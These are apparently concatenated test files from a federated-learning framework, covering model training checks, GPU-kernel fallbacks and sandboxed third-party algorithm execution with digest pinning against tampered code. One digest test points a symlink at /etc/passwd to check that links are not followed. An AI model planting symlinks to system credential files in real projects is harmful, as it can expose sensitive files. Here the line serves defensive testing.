        models.set_preferred_device(None)
    free = mlp.partial_fit.__wrapped__(
        df, dict(w0), label="label", hidden=[8], n_classes=3, epochs=2)
    for k in pinned["weights"]:
        np.testing.assert_allclose(pinned["weights"][k],
                                   free["weights"][k],
                                   rtol=1e-5, atol=1e-6)

    # reported n == rows actually trained after mesh-multiple truncation
    cols35 = {f"f{i}": np.random.default_rng(1).normal(
        size=35).astype(np.float32) for i in range(4)}
    cols35["label"] = np.random.default_rng(1).integers(0, 3, 35).astype(
        np.int64)
    out = mlp.partial_fit.__wrapped__(
        Table(cols35), dict(w0), label="label", hidden=[8], n_classes=3,
        epochs=1, data_parallel=2)
    assert out["n"] == 34  # 35 truncated to a multiple of 2
