"""Test harness config.

Tests run on a virtual 8-device CPU mesh (SURVEY.md §4 gap plan): sharding
logic is validated without trn hardware; the driver separately dry-runs the
multi-chip path via ``__graft_entry__.dryrun_multichip``.

Env vars must be set before jax is imported anywhere.
"""

import os
import sys

# Force CPU even when the session presets JAX_PLATFORMS=axon (real trn):
# unit tests must be fast and hardware-independent. The axon boot hook
# overrides the env var, so also pin it via jax.config below.
os.environ["JAX_PLATFORMS"] = "cpu"
_flags = os.environ.get("XLA_FLAGS", "")
if "xla_force_host_platform_device_count" not in _flags:
    os.environ["XLA_FLAGS"] = (
        _flags + " --xla_force_host_platform_device_count=8"
    ).strip()

sys.path.insert(0, os.path.dirname(os.path.dirname(os.path.abspath(__file__))))

import jax  # noqa: E402

jax.config.update("jax_platforms", "cpu")
