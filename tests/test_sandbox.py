"""Isolated third-party algorithm execution (VERDICT r1 item #7): an
algorithm living in a directory the node cannot import runs in a
subprocess sandbox under the full env-file contract — input/output/token
files, DATABASE_URI, proxy access for subtasks, log harvesting, kill,
timeout."""

import textwrap
import time

import numpy as np
import pytest

from vantage6_trn.algorithm.table import Table
from vantage6_trn.client import UserClient
from vantage6_trn.common.serialization import make_task_input
from vantage6_trn.node.daemon import Node
from vantage6_trn.server import ServerApp

THIRD_PARTY = textwrap.dedent('''
    """A third-party algorithm: not importable by the node process."""
    import os

    import numpy as np

    from vantage6_trn.algorithm.decorators import (
        algorithm_client, data, metadata,
    )
    from vantage6_trn.common.serialization import make_task_input


    @data(1)
    @metadata
    def colsum(df, meta, column):
        print("sandbox says: computing on", len(df), "rows")   # → run log
        assert meta.task_id is not None
        assert os.environ.get("TEMPORARY_FOLDER")
        return {"sum": float(np.sum(df[column])),
                "n": float(len(df)),
                "org": meta.organization_id}


    @algorithm_client
    def central_colsum(client, column, organizations):
        """Proves proxy access from inside the sandbox: fans out
        subtasks and aggregates."""
        task = client.task.create(
            input_=make_task_input("colsum", kwargs={"column": column}),
            organizations=organizations,
        )
        parts = [r for r in client.wait_for_results(task["id"]) if r]
        return {"total": sum(p["sum"] for p in parts),
                "n": sum(p["n"] for p in parts)}


    def crash(**kw):
        print("about to blow up")
        raise RuntimeError("deliberate crash for log harvesting")


    def sleeper(**kw):
        import time
        print("sleeping...", flush=True)
        time.sleep(300)
''')


@pytest.fixture(scope="module")
def sandbox_net(tmp_path_factory):
    algo_dir = tmp_path_factory.mktemp("third-party-algo")
    (algo_dir / "acme_stats.py").write_text(THIRD_PARTY)
    data_dir = tmp_path_factory.mktemp("data")

    app = ServerApp(root_password="pw")
    port = app.start()
    root = UserClient(f"http://127.0.0.1:{port}")
    root.authenticate("root", "pw")
    org_ids = [root.organization.create(name=f"so-{i}")["id"]
               for i in range(2)]
    collab = root.collaboration.create("sc", org_ids)["id"]
    nodes = []
    for i, oid in enumerate(org_ids):
        csv = data_dir / f"d{i}.csv"
        csv.write_text("x\n" + "\n".join(str(v) for v in range(10 * (i + 1))))
        reg = root.node.create(collab, organization_id=oid)
        node = Node(
            server_url=f"http://127.0.0.1:{port}/api",
            api_key=reg["api_key"],
            databases=[{"uri": str(csv), "type": "csv", "label": "default"}],
            extra_images={
                "acme/stats:1.0": {
                    "path": str(algo_dir), "module": "acme_stats",
                    "timeout": 120,
                },
            },
            name=f"sbx-node-{i}",
        )
        node.start()
        nodes.append(node)
    yield root, org_ids, collab, nodes
    for n in nodes:
        n.stop()
    app.stop()


def test_sandboxed_central_with_subtasks_and_logs(sandbox_net):
    root, org_ids, collab, nodes = sandbox_net
    # the algorithm module is NOT importable in-process
    with pytest.raises(ImportError):
        import acme_stats  # noqa: F401
    task = root.task.create(
        collaboration=collab, organizations=[org_ids[0]],
        name="3p-central", image="acme/stats:1.0",
        input_=make_task_input(
            "central_colsum",
            kwargs={"column": "x", "organizations": org_ids},
        ),
    )
    (res,) = root.wait_for_results(task["id"], timeout=120)
    # org0: 0..9 sum=45 n=10; org1: 0..19 sum=190 n=20
    assert res["total"] == 235.0 and res["n"] == 30.0
    # worker prints were harvested into the subtask runs' logs
    subtasks = root.request("GET", "/task",
                            params={"parent_id": task["id"]})["data"]
    assert subtasks, "central created no subtasks"
    worker_logs = [r.get("log") or ""
                   for r in root.run.from_task(subtasks[0]["id"])]
    assert any("sandbox says: computing on" in lg for lg in worker_logs)


def test_sandboxed_crash_attaches_logs(sandbox_net):
    root, org_ids, collab, nodes = sandbox_net
    task = root.task.create(
        collaboration=collab, organizations=[org_ids[0]],
        name="3p-crash", image="acme/stats:1.0",
        input_=make_task_input("crash"),
    )
    deadline = time.time() + 60
    while time.time() < deadline:
        runs = root.run.from_task(task["id"])
        if runs and runs[0]["status"] == "failed":
            break
        time.sleep(0.3)
    assert runs[0]["status"] == "failed", runs
    assert "deliberate crash for log harvesting" in runs[0]["log"]
    assert "about to blow up" in runs[0]["log"]  # stdout harvested


def test_sandboxed_kill_terminates_process(sandbox_net):
    root, org_ids, collab, nodes = sandbox_net
    task = root.task.create(
        collaboration=collab, organizations=[org_ids[0]],
        name="3p-sleeper", image="acme/stats:1.0",
        input_=make_task_input("sleeper"),
    )
    deadline = time.time() + 60
    while time.time() < deadline:
        runs = root.run.from_task(task["id"])
        if runs and runs[0]["status"] == "active":
            break
        time.sleep(0.2)
    assert runs[0]["status"] == "active", runs
    time.sleep(1.0)  # let the subprocess actually start sleeping
    root.task.kill(task["id"])
    deadline = time.time() + 60
    while time.time() < deadline:
        runs = root.run.from_task(task["id"])
        if runs[0]["status"] == "killed":
            break
        time.sleep(0.3)
    assert runs[0]["status"] == "killed", runs


def test_sandbox_timeout(tmp_path):
    """Wall-clock timeout kills the subprocess and reports the logs."""
    import threading

    from vantage6_trn.node.sandbox import SandboxCrash, run_sandboxed

    algo_dir = tmp_path / "algo"
    algo_dir.mkdir()
    (algo_dir / "slow_mod.py").write_text(
        "import time\n\ndef forever(**kw):\n    print('started')\n"
        "    time.sleep(600)\n"
    )
    spec = {"path": str(algo_dir), "module": "slow_mod", "timeout": 3}
    t0 = time.time()
    with pytest.raises(SandboxCrash) as e:
        run_sandboxed(
            spec, run_id=1,
            input_={"method": "forever", "args": [], "kwargs": {}},
            token=None, tables=[], meta=None,
            kill_event=threading.Event(),
        )
    assert time.time() - t0 < 30
    assert "timed out" in str(e.value)


SHELL_ALGO = """\
#!/bin/sh
# a non-Python algorithm honoring the env-file contract verbatim:
# read INPUT_FILE, compute over DATABASE_URI, write OUTPUT_FILE, exit 0
set -e
echo "shell algorithm running"
grep -q "method" "$INPUT_FILE"
rows=$(($(grep -c "" "$DATABASE_URI") - 1))
printf '{"rows": %d, "runtime": "sh"}' "$rows" > "$OUTPUT_FILE"
"""


def test_non_python_algorithm_runs_full_contract(tmp_path):
    """VERDICT r2 item #4: any executable honoring the env-file
    contract runs — here /bin/sh, standing in for the reference's
    arbitrary (e.g. R) images."""
    import threading

    from vantage6_trn.node.sandbox import run_sandboxed

    algo_dir = tmp_path / "shell-algo"
    algo_dir.mkdir()
    (algo_dir / "run.sh").write_text(SHELL_ALGO)
    table = Table({"x": np.arange(7.0)})
    spec = {"path": str(algo_dir), "entrypoint": ["/bin/sh", "run.sh"],
            "timeout": 30}
    result, logs = run_sandboxed(
        spec, run_id=1,
        input_={"method": "main", "args": [], "kwargs": {}},
        token=None, tables=[table], meta=None,
        kill_event=threading.Event(),
    )
    assert result == {"rows": 7, "runtime": "sh"}
    assert "shell algorithm running" in logs


def test_non_python_algorithm_through_federation(sandbox_net, tmp_path):
    """The same shell algorithm end-to-end: registered on a node,
    dispatched via the server, result decrypted by the client."""
    root, org_ids, collab, nodes = sandbox_net
    algo_dir = tmp_path / "shell-fed"
    algo_dir.mkdir()
    (algo_dir / "run.sh").write_text(SHELL_ALGO)
    from vantage6_trn.node.sandbox import _validate_spec, manifest_digest

    spec = {"path": str(algo_dir), "entrypoint": ["/bin/sh", "run.sh"],
            "timeout": 60, "digest": manifest_digest(algo_dir)}
    # register on the first node post-start (same dict the YAML feeds)
    nodes[0].runtime.sandbox_specs["acme/shell:1"] = _validate_spec(
        "acme/shell:1", spec)
    task = root.task.create(
        collaboration=collab, organizations=[org_ids[0]],
        name="shell-task", image="acme/shell:1",
        input_=make_task_input("main"),
    )
    (res,) = root.wait_for_results(task["id"], timeout=60)
    assert res == {"rows": 10, "runtime": "sh"}
    (run,) = root.run.from_task(task["id"])
    assert "shell algorithm running" in (run["log"] or "")


def test_digest_pin_refuses_tampered_directory(tmp_path):
    """VERDICT r2 item #4: the node recomputes the manifest digest at
    launch and refuses drifted code (the image-digest analogue)."""
    import threading

    from vantage6_trn.node.sandbox import (
        SandboxCrash, manifest_digest, run_sandboxed,
    )

    algo_dir = tmp_path / "pinned"
    algo_dir.mkdir()
    (algo_dir / "run.sh").write_text(SHELL_ALGO)
    spec = {"path": str(algo_dir), "entrypoint": ["/bin/sh", "run.sh"],
            "timeout": 30, "digest": manifest_digest(algo_dir)}
    kw = dict(run_id=1,
              input_={"method": "main", "args": [], "kwargs": {}},
              token=None, tables=[Table({"x": np.arange(3.0)})],
              meta=None, kill_event=threading.Event())
    result, _ = run_sandboxed(spec, **kw)          # pristine: runs
    assert result["rows"] == 3

    (algo_dir / "run.sh").write_text(
        SHELL_ALGO + "\n# malicious edit\n")        # tampered: refused
    with pytest.raises(SandboxCrash, match="digest mismatch"):
        run_sandboxed(spec, **kw)
    # __pycache__ noise must NOT change the digest (false-positive trap)
    (algo_dir / "run.sh").write_text(SHELL_ALGO)
    cache = algo_dir / "__pycache__"
    cache.mkdir()
    (cache / "x.pyc").write_bytes(b"\x00bytecode")
    result, _ = run_sandboxed(spec, **kw)
    assert result["rows"] == 3


def test_store_approved_digest_gates_node_execution(tmp_path):
    """What the store approved is what the node runs: an approved image
    whose local directory no longer matches the store-pinned digest is
    not allowed (reference: image digest pinning in docker addons)."""
    from vantage6_trn.node.runtime import AlgorithmRuntime
    from vantage6_trn.node.sandbox import manifest_digest
    from vantage6_trn.store import StoreApp

    algo_dir = tmp_path / "store-pinned"
    algo_dir.mkdir()
    (algo_dir / "run.sh").write_text(SHELL_ALGO)
    digest = manifest_digest(algo_dir)

    store = StoreApp(admin_token="adm", min_reviews=0)
    port = store.start()
    url = f"http://127.0.0.1:{port}"
    try:
        import requests

        r = requests.post(
            f"{url}/algorithm",
            json={"name": "pinned", "image": "acme/pinned:1",
                  "digest": digest},
            headers={"Authorization": "Bearer adm"})
        assert r.status_code == 201, r.text
        aid = r.json()["id"]
        r = requests.post(
            f"{url}/algorithm/{aid}/review",
            json={"verdict": "approved"},
            headers={"Authorization": "Bearer adm"})
        assert r.status_code == 200, r.text

        rt = AlgorithmRuntime(
            extra_images={"acme/pinned:1": {
                "path": str(algo_dir),
                "entrypoint": ["/bin/sh", "run.sh"]}},
            allowed_stores=[url],
        )
        assert rt.image_allowed("acme/pinned:1")
        # local copy drifts from what was approved
        (algo_dir / "run.sh").write_text(SHELL_ALGO + "\n# drift\n")
        rt._store_cache.clear()
        assert not rt.image_allowed("acme/pinned:1")
    finally:
        store.stop()


def test_manifest_digest_symlinks_and_missing(tmp_path):
    """Symlinks hash their target *path* and are never followed (no
    loops, no cross-version drift); a missing directory errors instead
    of yielding the constant empty-manifest digest."""
    from vantage6_trn.node.sandbox import manifest_digest

    d = tmp_path / "algo"
    (d / "vendor").mkdir(parents=True)
    (d / "vendor" / "lib.py").write_text("x = 1\n")
    (d / "lib").symlink_to("vendor")          # dir symlink
    (d / "cfg").symlink_to("vendor/lib.py")   # file symlink
    (d / "loop").symlink_to(".")              # would hang a follower
    base = manifest_digest(d)
    assert base == manifest_digest(d)  # deterministic
    # retargeting a link changes the digest even with files untouched
    (d / "cfg").unlink()
    (d / "cfg").symlink_to("/etc/passwd")
    assert manifest_digest(d) != base

    with pytest.raises(ValueError, match="not a directory"):
        manifest_digest(tmp_path / "no-such-dir")


def test_store_pinned_digest_enforced_at_launch(tmp_path):
    """A store-gated node whose YAML omits a local digest still gets
    the launch-time recheck: submit() injects the store-approved pin,
    so tampering *after* the accept-time approval check (inside the
    60s TTL window) is caught by run_sandboxed."""
    from vantage6_trn.node.runtime import AlgorithmRuntime
    from vantage6_trn.node.sandbox import manifest_digest

    algo_dir = tmp_path / "late-tamper"
    algo_dir.mkdir()
    (algo_dir / "run.sh").write_text(SHELL_ALGO)
    rt = AlgorithmRuntime(
        extra_images={"acme/late:1": {
            "path": str(algo_dir), "entrypoint": ["/bin/sh", "run.sh"],
            "timeout": 30}},
    )
    # simulate the approval check having recorded the store's pin
    rt._approved_digest["acme/late:1"] = manifest_digest(algo_dir)
    (algo_dir / "run.sh").write_text(SHELL_ALGO + "\n# post-approval\n")

    done = {}
    import threading

    ev = threading.Event()

    def on_done(handle, result, exc):
        done["exc"] = exc
        ev.set()

    rt.submit(run_id=9, image="acme/late:1",
              input_={"method": "main", "args": [], "kwargs": {}},
              client=None, tables=[Table({"x": np.arange(2.0)})],
              meta=None, on_done=on_done)
    assert ev.wait(30)
    assert done["exc"] is not None
    assert "digest mismatch" in str(done["exc"])
    rt.shutdown()


def test_cli_digest_missing_path_errors(capsys):
    from vantage6_trn.cli.main import main

    rc = main(["algorithm", "digest", "/no/such/dir"])
    assert rc == 2
    assert "error" in capsys.readouterr().err
