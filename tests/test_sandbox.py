"""Isolated third-party algorithm execution (VERDICT r1 item #7): an
algorithm living in a directory the node cannot import runs in a
subprocess sandbox under the full env-file contract — input/output/token
files, DATABASE_URI, proxy access for subtasks, log harvesting, kill,
timeout."""

import textwrap
import time

import numpy as np
import pytest

from vantage6_trn.algorithm.table import Table
from vantage6_trn.client import UserClient
from vantage6_trn.common.serialization import make_task_input
from vantage6_trn.node.daemon import Node
from vantage6_trn.server import ServerApp

THIRD_PARTY = textwrap.dedent('''
    """A third-party algorithm: not importable by the node process."""
    import os

    import numpy as np

    from vantage6_trn.algorithm.decorators import (
        algorithm_client, data, metadata,
    )
    from vantage6_trn.common.serialization import make_task_input


    @data(1)
    @metadata
    def colsum(df, meta, column):
        print("sandbox says: computing on", len(df), "rows")   # → run log
        assert meta.task_id is not None
        assert os.environ.get("TEMPORARY_FOLDER")
        return {"sum": float(np.sum(df[column])),
                "n": float(len(df)),
                "org": meta.organization_id}


    @algorithm_client
    def central_colsum(client, column, organizations):
        """Proves proxy access from inside the sandbox: fans out
        subtasks and aggregates."""
        task = client.task.create(
            input_=make_task_input("colsum", kwargs={"column": column}),
            organizations=organizations,
        )
        parts = [r for r in client.wait_for_results(task["id"]) if r]
        return {"total": sum(p["sum"] for p in parts),
                "n": sum(p["n"] for p in parts)}


    def crash(**kw):
        print("about to blow up")
        raise RuntimeError("deliberate crash for log harvesting")


    def sleeper(**kw):
        import time
        print("sleeping...", flush=True)
        time.sleep(300)
''')


@pytest.fixture(scope="module")
def sandbox_net(tmp_path_factory):
    algo_dir = tmp_path_factory.mktemp("third-party-algo")
    (algo_dir / "acme_stats.py").write_text(THIRD_PARTY)
    data_dir = tmp_path_factory.mktemp("data")

    app = ServerApp(root_password="pw")
    port = app.start()
    root = UserClient(f"http://127.0.0.1:{port}")
    root.authenticate("root", "pw")
    org_ids = [root.organization.create(name=f"so-{i}")["id"]
               for i in range(2)]
    collab = root.collaboration.create("sc", org_ids)["id"]
    nodes = []
    for i, oid in enumerate(org_ids):
        csv = data_dir / f"d{i}.csv"
        csv.write_text("x\n" + "\n".join(str(v) for v in range(10 * (i + 1))))
        reg = root.node.create(collab, organization_id=oid)
        node = Node(
            server_url=f"http://127.0.0.1:{port}/api",
            api_key=reg["api_key"],
            databases=[{"uri": str(csv), "type": "csv", "label": "default"}],
            extra_images={
                "acme/stats:1.0": {
                    "path": str(algo_dir), "module": "acme_stats",
                    "timeout": 120,
                },
            },
            name=f"sbx-node-{i}",
        )
        node.start()
        nodes.append(node)
    yield root, org_ids, collab, nodes
    for n in nodes:
        n.stop()
    app.stop()


def test_sandboxed_central_with_subtasks_and_logs(sandbox_net):
    root, org_ids, collab, nodes = sandbox_net
    # the algorithm module is NOT importable in-process
    with pytest.raises(ImportError):
        import acme_stats  # noqa: F401
    task = root.task.create(
        collaboration=collab, organizations=[org_ids[0]],
        name="3p-central", image="acme/stats:1.0",
        input_=make_task_input(
            "central_colsum",
            kwargs={"column": "x", "organizations": org_ids},
        ),
    )
    (res,) = root.wait_for_results(task["id"], timeout=120)
    # org0: 0..9 sum=45 n=10; org1: 0..19 sum=190 n=20
    assert res["total"] == 235.0 and res["n"] == 30.0
    # worker prints were harvested into the subtask runs' logs
    subtasks = root.request("GET", "/task",
                            params={"parent_id": task["id"]})["data"]
    assert subtasks, "central created no subtasks"
    worker_logs = [r.get("log") or ""
                   for r in root.run.from_task(subtasks[0]["id"])]
    assert any("sandbox says: computing on" in lg for lg in worker_logs)


def test_sandboxed_crash_attaches_logs(sandbox_net):
    root, org_ids, collab, nodes = sandbox_net
    task = root.task.create(
        collaboration=collab, organizations=[org_ids[0]],
        name="3p-crash", image="acme/stats:1.0",
        input_=make_task_input("crash"),
    )
    deadline = time.time() + 60
    while time.time() < deadline:
        runs = root.run.from_task(task["id"])
        if runs and runs[0]["status"] == "failed":
            break
        time.sleep(0.3)
    assert runs[0]["status"] == "failed", runs
    assert "deliberate crash for log harvesting" in runs[0]["log"]
    assert "about to blow up" in runs[0]["log"]  # stdout harvested


def test_sandboxed_kill_terminates_process(sandbox_net):
    root, org_ids, collab, nodes = sandbox_net
    task = root.task.create(
        collaboration=collab, organizations=[org_ids[0]],
        name="3p-sleeper", image="acme/stats:1.0",
        input_=make_task_input("sleeper"),
    )
    deadline = time.time() + 60
    while time.time() < deadline:
        runs = root.run.from_task(task["id"])
        if runs and runs[0]["status"] == "active":
            break
        time.sleep(0.2)
    assert runs[0]["status"] == "active", runs
    time.sleep(1.0)  # let the subprocess actually start sleeping
    root.task.kill(task["id"])
    deadline = time.time() + 60
    while time.time() < deadline:
        runs = root.run.from_task(task["id"])
        if runs[0]["status"] == "killed":
            break
        time.sleep(0.3)
    assert runs[0]["status"] == "killed", runs


def test_sandbox_timeout(tmp_path):
    """Wall-clock timeout kills the subprocess and reports the logs."""
    import threading

    from vantage6_trn.node.sandbox import SandboxCrash, run_sandboxed

    algo_dir = tmp_path / "algo"
    algo_dir.mkdir()
    (algo_dir / "slow_mod.py").write_text(
        "import time\n\ndef forever(**kw):\n    print('started')\n"
        "    time.sleep(600)\n"
    )
    spec = {"path": str(algo_dir), "module": "slow_mod", "timeout": 3}
    t0 = time.time()
    with pytest.raises(SandboxCrash) as e:
        run_sandboxed(
            spec, run_id=1,
            input_={"method": "forever", "args": [], "kwargs": {}},
            token=None, tables=[], meta=None,
            kill_event=threading.Event(),
        )
    assert time.time() - t0 < 30
    assert "timed out" in str(e.value)
