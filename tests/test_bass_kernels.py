"""BASS aggregation kernel tests.

On the CPU test rig the kernel can't execute — the wrapper must fall back
to the jax path and still be numerically correct (kernel-vs-reference
parity runs on hardware via `python -m vantage6_trn.ops.kernels.verify`).
"""

import numpy as np
import pytest

from vantage6_trn.ops.kernels.fedavg_bass import fedavg_bass


def test_fedavg_bass_wrapper_correct_any_path():
    rng = np.random.default_rng(5)
    u = rng.normal(size=(7, 1000)).astype(np.float32)
    w = rng.uniform(0.5, 2.0, size=7).astype(np.float32)
    out = fedavg_bass(u, w)
    np.testing.assert_allclose(out, (w / w.sum()) @ u, rtol=1e-4, atol=1e-5)


def test_fedavg_bass_large_n_falls_back():
    rng = np.random.default_rng(6)
    u = rng.normal(size=(200, 64)).astype(np.float32)  # >128 orgs
    w = np.ones(200, np.float32)
    out = fedavg_bass(u, w)
    np.testing.assert_allclose(out, u.mean(axis=0), rtol=1e-4, atol=1e-5)


def test_fedavg_nki_wrapper_correct_any_path():
    from vantage6_trn.ops.kernels.fedavg_nki import fedavg_nki

    rng = np.random.default_rng(8)
    u = rng.normal(size=(9, 700)).astype(np.float32)  # non-multiple of 512
    w = rng.uniform(0.5, 2.0, size=9).astype(np.float32)
    out = fedavg_nki(u, w)
    np.testing.assert_allclose(out, (w / w.sum()) @ u, rtol=1e-4, atol=1e-5)


def test_fedavg_nki_simulation_exact():
    pytest.importorskip("neuronxcc.nki")
    from vantage6_trn.ops.kernels.fedavg_nki import TILE, _make_kernel

    k = _make_kernel(mode="simulation")
    rng = np.random.default_rng(9)
    u = rng.normal(size=(6, 2 * TILE)).astype(np.float32)
    w = np.full((6, 1), 1 / 6, np.float32)
    out = np.asarray(k(u, w)).reshape(-1)
    np.testing.assert_allclose(out, u.mean(axis=0), rtol=1e-5, atol=1e-6)


def test_secure_sum_bass_wrapper_any_path():
    from vantage6_trn.ops.kernels.fedavg_bass import secure_sum_bass

    rng = np.random.default_rng(10)
    u = rng.normal(size=(6, 900)).astype(np.float32) * 100  # mask-scale
    out = secure_sum_bass(u)
    np.testing.assert_allclose(out, u.sum(axis=0), rtol=1e-4, atol=1e-3)
