"""BASS aggregation kernel tests.

On the CPU test rig the kernel can't execute — the wrapper must fall back
to the jax path and still be numerically correct (kernel-vs-reference
parity runs on hardware via `python -m vantage6_trn.ops.kernels.verify`).
"""

import numpy as np
import pytest

from vantage6_trn.ops.kernels.fedavg_bass import fedavg_bass


def test_fedavg_bass_wrapper_correct_any_path():
    rng = np.random.default_rng(5)
    u = rng.normal(size=(7, 1000)).astype(np.float32)
    w = rng.uniform(0.5, 2.0, size=7).astype(np.float32)
    out = fedavg_bass(u, w)
    np.testing.assert_allclose(out, (w / w.sum()) @ u, rtol=1e-4, atol=1e-5)


def test_fedavg_bass_large_n_falls_back():
    rng = np.random.default_rng(6)
    u = rng.normal(size=(200, 64)).astype(np.float32)  # >128 orgs
    w = np.ones(200, np.float32)
    out = fedavg_bass(u, w)
    np.testing.assert_allclose(out, u.mean(axis=0), rtol=1e-4, atol=1e-5)


def test_fedavg_nki_wrapper_correct_any_path():
    from vantage6_trn.ops.kernels.fedavg_nki import fedavg_nki

    rng = np.random.default_rng(8)
    u = rng.normal(size=(9, 700)).astype(np.float32)  # non-multiple of 512
    w = rng.uniform(0.5, 2.0, size=9).astype(np.float32)
    out = fedavg_nki(u, w)
    np.testing.assert_allclose(out, (w / w.sum()) @ u, rtol=1e-4, atol=1e-5)


def test_fedavg_nki_simulation_exact():
    pytest.importorskip("neuronxcc.nki")
    from vantage6_trn.ops.kernels.fedavg_nki import TILE, _make_kernel

    k = _make_kernel(mode="simulation")
    rng = np.random.default_rng(9)
    u = rng.normal(size=(6, 2 * TILE)).astype(np.float32)
    w = np.full((6, 1), 1 / 6, np.float32)
    out = np.asarray(k(u, w)).reshape(-1)
    np.testing.assert_allclose(out, u.mean(axis=0), rtol=1e-5, atol=1e-6)


def test_secure_sum_bass_wrapper_any_path():
    from vantage6_trn.ops.kernels.fedavg_bass import secure_sum_bass

    rng = np.random.default_rng(10)
    u = rng.normal(size=(6, 900)).astype(np.float32) * 100  # mask-scale
    out = secure_sum_bass(u)
    np.testing.assert_allclose(out, u.sum(axis=0), rtol=1e-4, atol=1e-3)


def test_modular_sum_limb_split_roundtrip():
    """The 16-bit limb decomposition used by the TensorE modular-sum
    kernel is bit-exact at full mask scale (host-side math check)."""
    from vantage6_trn.ops.kernels.fedavg_bass import (
        _combine_limbs,
        _split_limbs,
    )

    rng = np.random.default_rng(0)
    x = rng.integers(0, 2 ** 64, size=(64, 333), dtype=np.uint64)
    planes = _split_limbs(x)
    assert planes.dtype == np.uint16  # zero-copy byte reinterpretation
    assert planes.shape == (64, 4 * 333)
    # what TensorE computes after the f32 widen: exact (< 2^23 per col)
    sums = planes.astype(np.float32).sum(axis=0)
    out = _combine_limbs(sums, x.shape[1])
    with np.errstate(over="ignore"):
        ref = x.sum(axis=0, dtype=np.uint64)
    np.testing.assert_array_equal(out, ref)


def test_modular_sum_u64_bass_fallback_path():
    from vantage6_trn.ops.kernels.fedavg_bass import modular_sum_u64_bass

    rng = np.random.default_rng(1)
    x = rng.integers(0, 2 ** 64, size=(5, 100), dtype=np.uint64)
    out = modular_sum_u64_bass(x)  # CPU run → device try fails → numpy
    with np.errstate(over="ignore"):
        ref = x.sum(axis=0, dtype=np.uint64)
    np.testing.assert_array_equal(out, ref)
