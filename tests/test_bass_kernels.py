"""BASS aggregation kernel tests.

On the CPU test rig the kernel can't execute — the wrapper must fall back
to the jax path and still be numerically correct (kernel-vs-reference
parity runs on hardware via `python -m vantage6_trn.ops.kernels.verify`).
"""

import numpy as np
import pytest

from vantage6_trn.ops.kernels.fedavg_bass import fedavg_bass


def test_fedavg_bass_wrapper_correct_any_path():
    rng = np.random.default_rng(5)
    u = rng.normal(size=(7, 1000)).astype(np.float32)
    w = rng.uniform(0.5, 2.0, size=7).astype(np.float32)
    out = fedavg_bass(u, w)
    np.testing.assert_allclose(out, (w / w.sum()) @ u, rtol=1e-4, atol=1e-5)


def test_fedavg_bass_large_n_falls_back():
    rng = np.random.default_rng(6)
    u = rng.normal(size=(200, 64)).astype(np.float32)  # >128 orgs
    w = np.ones(200, np.float32)
    out = fedavg_bass(u, w)
    np.testing.assert_allclose(out, u.mean(axis=0), rtol=1e-4, atol=1e-5)
