"""BASS aggregation + attention/LoRA kernel tests.

On the CPU test rig the kernels can't execute — the wrappers must fall
back to the jax path and still be numerically correct (kernel-vs-
reference parity runs on hardware via
`python -m vantage6_trn.ops.kernels.verify`), and the dispatch counter
must NOT advance (fallback is never counted as silicon).
"""

import numpy as np
import pytest

from vantage6_trn.ops.kernels.fedavg_bass import fedavg_bass


def test_fedavg_bass_wrapper_correct_any_path():
    rng = np.random.default_rng(5)
    u = rng.normal(size=(7, 1000)).astype(np.float32)
    w = rng.uniform(0.5, 2.0, size=7).astype(np.float32)
    out = fedavg_bass(u, w)
    np.testing.assert_allclose(out, (w / w.sum()) @ u, rtol=1e-4, atol=1e-5)


def test_fedavg_bass_large_n_falls_back():
    rng = np.random.default_rng(6)
    u = rng.normal(size=(200, 64)).astype(np.float32)  # >128 orgs
    w = np.ones(200, np.float32)
    out = fedavg_bass(u, w)
    np.testing.assert_allclose(out, u.mean(axis=0), rtol=1e-4, atol=1e-5)


def test_fedavg_nki_wrapper_correct_any_path():
    from vantage6_trn.ops.kernels.fedavg_nki import fedavg_nki

    rng = np.random.default_rng(8)
    u = rng.normal(size=(9, 700)).astype(np.float32)  # non-multiple of 512
    w = rng.uniform(0.5, 2.0, size=9).astype(np.float32)
    out = fedavg_nki(u, w)
    np.testing.assert_allclose(out, (w / w.sum()) @ u, rtol=1e-4, atol=1e-5)


def test_fedavg_nki_simulation_exact():
    pytest.importorskip("neuronxcc.nki")
    from vantage6_trn.ops.kernels.fedavg_nki import TILE, _make_kernel

    k = _make_kernel(mode="simulation")
    rng = np.random.default_rng(9)
    u = rng.normal(size=(6, 2 * TILE)).astype(np.float32)
    w = np.full((6, 1), 1 / 6, np.float32)
    out = np.asarray(k(u, w)).reshape(-1)
    np.testing.assert_allclose(out, u.mean(axis=0), rtol=1e-5, atol=1e-6)


def test_secure_sum_bass_wrapper_any_path():
    from vantage6_trn.ops.kernels.fedavg_bass import secure_sum_bass

    rng = np.random.default_rng(10)
    u = rng.normal(size=(6, 900)).astype(np.float32) * 100  # mask-scale
    out = secure_sum_bass(u)
    np.testing.assert_allclose(out, u.sum(axis=0), rtol=1e-4, atol=1e-3)


def test_modular_sum_limb_split_roundtrip():
    """The 16-bit limb decomposition used by the TensorE modular-sum
    kernel is bit-exact at full mask scale (host-side math check)."""
    from vantage6_trn.ops.kernels.fedavg_bass import (
        _combine_limbs,
        _split_limbs,
    )

    rng = np.random.default_rng(0)
    x = rng.integers(0, 2 ** 64, size=(64, 333), dtype=np.uint64)
    planes = _split_limbs(x)
    assert planes.dtype == np.uint16  # zero-copy byte reinterpretation
    assert planes.shape == (64, 4 * 333)
    # what TensorE computes after the f32 widen: exact (< 2^23 per col)
    sums = planes.astype(np.float32).sum(axis=0)
    out = _combine_limbs(sums, x.shape[1])
    with np.errstate(over="ignore"):
        ref = x.sum(axis=0, dtype=np.uint64)
    np.testing.assert_array_equal(out, ref)


def test_modular_sum_u64_bass_fallback_path():
    from vantage6_trn.ops.kernels.fedavg_bass import modular_sum_u64_bass

    rng = np.random.default_rng(1)
    x = rng.integers(0, 2 ** 64, size=(5, 100), dtype=np.uint64)
    out = modular_sum_u64_bass(x)  # CPU run → device try fails → numpy
    with np.errstate(over="ignore"):
        ref = x.sum(axis=0, dtype=np.uint64)
    np.testing.assert_array_equal(out, ref)


# ====================== attention / LoRA kernels ======================


def _qkv(shape, dtype, seed=0):
    import jax.numpy as jnp

    rng = np.random.default_rng(seed)
    return tuple(
        jnp.asarray(rng.normal(size=shape).astype(np.float32), dtype)
        for _ in range(3)
    )


@pytest.mark.parametrize("causal", [False, True])
@pytest.mark.parametrize("shape", [(2, 9, 2, 8), (1, 16, 3, 12)])
def test_flash_attention_matches_reference_f32(causal, shape):
    from vantage6_trn.ops.kernels.attention_bass import flash_attention
    from vantage6_trn.parallel.ring import reference_attention

    q, k, v = _qkv(shape, np.float32, seed=3)
    out = flash_attention(q, k, v, causal=causal)
